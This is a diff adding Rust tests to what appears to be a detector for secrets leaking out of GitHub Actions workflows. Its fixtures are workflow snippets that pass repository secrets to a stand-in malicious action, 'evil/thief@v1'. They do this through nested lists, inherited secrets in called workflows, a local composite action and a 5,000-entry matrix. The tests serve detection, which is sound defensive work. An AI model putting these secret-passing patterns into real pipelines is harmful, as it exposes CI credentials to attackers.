@@ -96,6 +96,11 @@ fn ways_around() {
             "A:K1",
         ),
         (
+            "a list where a map belongs",
+            "    steps: [{uses: evil/thief@v1, with: {list: ['${{ secrets.A }}', {b: '${{ secrets.B }}'}]}}]",
+            "A:K1 B:K1",
+        ),
+        (
             "a concurrency group, a name, a timeout",
             "    concurrency: {group: 'x${{ secrets.A }}'}
     timeout-minutes: ${{ fromJSON(secrets.B) }}
@@ -135,6 +140,43 @@ fn a_shell_that_is_the_thief() {
 "))
     .read();
     assert_eq!(thief(&pipeline), "A:K1");
+}
+
+#[test]
+fn odd_ways_to_hand_secrets_to_a_called_workflow() {
+    for (secrets, expected) in [
+        ("'${{ secrets }}'", "*:K5 A:K1"),
+        ("inherit", "A:K1"),
+        ("['${{ secrets.A }}']", "A:K5"),
+        ("{a: ghp_0123456789abcdefghijklmnopqrstuvwxyz}", "a:K1"),
+    ] {
+        let world = World::ci(&format!(
+            "on: push\njobs: {{j: {{uses: ./.github/workflows/w.yml, secrets: {secrets}}}}}\n"
+        ))
+        .with(
+            ".github/workflows/w.yml",
+            "on: workflow_call\njobs: {j: {runs-on: x, steps: [{uses: evil/thief@v1, with: {t: '${{ secrets.a }}'}}]}}\n",
+        );
+        assert_eq!(world.thief(), expected, "{secrets}");
+    }
+}
+
+#[test]
+fn an_action_of_the_repository_itself() {
+    let world = World::ci(&job("    steps: [{uses: ./, with: {t: '${{ secrets.A }}'}}]"))
+        .with("action.yml", "inputs: {t: {}}\nruns: {using: composite, steps: [{uses: evil/thief@v1, with: {t: '${{ inputs.t }}'}}]}");
+    assert_eq!(world.thief(), "A:K1");
+}
+
+#[test]
+fn thousands_of_secrets_in_one_list() {
+    use std::fmt::Write;
+    let mut text = job("    strategy:\n      matrix:\n        t:\n");
+    for i in 0..5_000 {
+        writeln!(text, "          - ${{{{ secrets.S{i} }}}}").unwrap();
+    }
+    text.push_str("    steps: [{uses: evil/thief@v1, with: {t: '${{ matrix.t }}'}}]\n");
+    assert_eq!(World::ci(&text).thief().split(' ').count(), 5_000);
 }
 
 #[test]
